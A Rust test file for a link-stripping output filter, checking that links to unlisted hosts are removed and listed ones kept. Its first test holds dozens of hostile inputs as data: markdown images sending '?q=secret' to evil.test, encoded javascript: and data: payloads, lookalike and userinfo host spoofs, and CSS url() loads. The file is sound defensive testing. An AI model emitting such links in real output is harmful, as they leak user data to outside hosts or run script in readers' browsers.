//! Tricks by which an address leads elsewhere than it seems.

use std::sync::Arc;

use crate::output::{Html, Rules, Stream};

fn shown(text: &str, html: Html) -> (String, u32) {
    let rules = Rules::new()
        .links(["docs.example.org", "*.cdn.example.org", "example.com:8443"])
        .expect("hosts")
        .html(html);
    let mut stream = Stream::new(Arc::new(rules));
    let first = stream.push(text).expect("nothing stops");
    let (rest, summary) = stream.finish().expect("nothing stops");
    (first + &rest, summary.links_removed)
}

/// More space before the equals sign than is looked back.
const FAR: &str = concat!(
    "<img src                                                                                ",
    "=\"&#47;&#47;evil.test/a\">"
);

#[test]
fn what_leads_elsewhere_is_removed_visibly() {
    for text in [
        "![x](https://evil.test/?q=secret)",
        "![x](//evil.test/?q=secret)",
        "[x](https:evil.test)",
        "[x](https:/\\evil.test/a)",
        "[x](\\\\evil.test/a)",
        "[x](/\\evil.test/a)",
        "[x](<https://evil.test/a b>)",
        "[x](  https://evil.test 'title')",
        "[x](\nhttps://evil.test)",
        "[x](https://docs.example.org@evil.test/)",
        "[x](https://docs.example.org:443@evil.test/)",
        "[x](https://docs.example.org.evil.test/)",
        "[x](https://docs.example.org:444/)",
        "[x](https://dоcs.example.org/)",
        "[x](https://xn--dcs-sed.example.org/)",
        "[x](https://cdn.example.org/)",
        "[x](http&#58;//evil.test)",
        "[x](https&colon;&sol;&sol;evil.test)",
        "[x](https\\://evil.test)",
        "[x](javascript:alert(1))",
        "[x](JaVa&#115;cript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox(1))",
        "[x](mailto:a@evil.test)",
        "[x][1]\n\n[1]: https://evil.test/?q=1 \"t\"",
        "[1]:\n  //evil.test/a",
        "<https://evil.test/a>",
        "see https://evil.test/a.",
        "see HTTP://EVIL.TEST/a",
        "see http:/evil.test/a",
        "see ftp://evil.test/a",
        "see www.evil.test/a",
        "<img src=\"//evil.test/a\">",
        "<img src='https://evil.test/a'>",
        "<img src=https&colon;//evil.test/a>",
        "<img srcset=\"https://docs.example.org/a 1x, //evil.test/b 2x\">",
        "<img src\n=\"&#47;&#47;evil.test/a\">",
        "<img src\t=\"&#47;&#47;evil.test/a\">",
        "<img src\x0c=\x0c\"&#47;&#47;evil.test/a\">",
        "<img src\n=http:evil.test/a>",
        "<img src = http:evil.test/a>",
        "<img src=\n&#47;&#47;evil.test/a>",
        FAR,
        "<a href=\"java\nscript:alert(1)\">",
        "<p style=\"background:url(//evil.test/a)\">",
        "<p style=\"background:\\75rl(//evil.test/a)\">",
        "body { background: url(//evil.test/x) }",
        "javascript:alert(1)",
        "[x](https://127.0.0.1/)",
        "[x](https://[::1]/)",
        "[x](https://0x7f.1/)",
        "[x](https://docs.example.org\u{3002}evil.test/)",
    ] {
        let (output, removed) = shown(text, Html::Keep);
        assert!(removed >= 1 && output.contains("[link removed]"), "`{text}` left as `{output}`");
        assert!(
            !output.contains("evil.test/") && !output.contains("alert(1)"),
            "`{text}` left as `{output}`"
        );
    }
}

#[test]
fn what_is_listed_or_no_link_stays() {
    for text in [
        "![x](https://docs.example.org/a.png)",
        "![x](https://img.cdn.example.org/a.png \"t\")",
        "[x](https://example.com:8443/a_(b))",
        "[x](/relative/path?q=1#top)",
        "[x](#anchor) and [y](other.md)",
        "see https://docs.example.org/a, then",
        "[1]: https://docs.example.org/a",
        "a[i](x) = b[j](y);",
        "data: three rows; about: the same",
        "let data = rows; // a comment",
        "fn f() -> Result<(), Error> { x::y(z) }",
        "print(\"// no address\")",
        "ratio 3:2, at 10:30, key: value",
        "href = next",
        "src\n= next",
        "x                                                                                       = next",
    ] {
        assert_eq!(shown(text, Html::Keep), (text.to_owned(), 0));
    }
}
